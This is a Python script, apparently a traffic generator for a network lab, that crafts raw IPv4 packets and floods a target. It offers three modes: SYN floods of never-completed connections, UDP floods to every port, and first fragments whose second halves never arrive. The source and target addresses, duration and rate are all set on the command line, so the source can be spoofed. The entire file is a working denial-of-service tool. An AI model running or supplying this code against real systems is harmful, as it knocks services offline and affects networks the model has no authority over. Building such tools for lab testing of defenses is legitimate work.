"""A client that floods, as a program: flood.py syn|udp|fragments SOURCE TARGET SECONDS RATE; prints how many packets it sent.

syn         connections that are never completed, to every port
udp         datagrams to every port
fragments   first fragments whose other halves never come
"""

import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from lab import wire                                                                                # noqa: E402

DIFFERENT, BURST = 20_000, 50


def syn(source, target):
    """A SYN from any port to any port."""
    ports = struct.pack('!HH', random.randrange(1024, 65536), random.randrange(1, 65536))
    segment = ports + struct.pack('!IIBBHHH', random.getrandbits(32), 0, 0x50, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack('!HH', 6, len(segment))
    segment = segment[:16] + struct.pack('!H', wire.checksum(pseudo + segment)) + segment[18:]
    return wire.ipv4(source, target, 6, segment)


def udp(source, target):
    """A datagram from any port to any port."""
    ports = random.randrange(1024, 65536), random.randrange(1, 65536)
    return wire.ipv4(source, target, 17, wire.udp(source, target, *ports, b'flood'))


def fragments(source, target):
    """The first half of a datagram."""
    half = struct.pack('!HHHH', random.randrange(1024, 65536), random.randrange(1, 65536), 2000, 0) + bytes(992)
    return wire.ipv4(source, target, 17, half, ident=random.randrange(65536), more=True)


def main():
    kind, source, target, seconds, rate = sys.argv[1:]
    make = {'syn': syn, 'udp': udp, 'fragments': fragments}[kind]
    packets = [make(source, target) for _ in range(DIFFERENT)]
    sent, tried, begin = 0, 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        while (elapsed := time.monotonic() - begin) < float(seconds):
            if tried > elapsed * float(rate):
                time.sleep(0.001)
                continue
            for p in packets[tried % DIFFERENT:][:BURST]:
                tried += 1
                try:
                    s.sendto(p, (target, 0))
                    sent += 1
                except OSError:
                    # The queue is full: that is what a flood does to its own host.
                    time.sleep(0.001)
    print(sent)


if __name__ == '__main__':
    main()
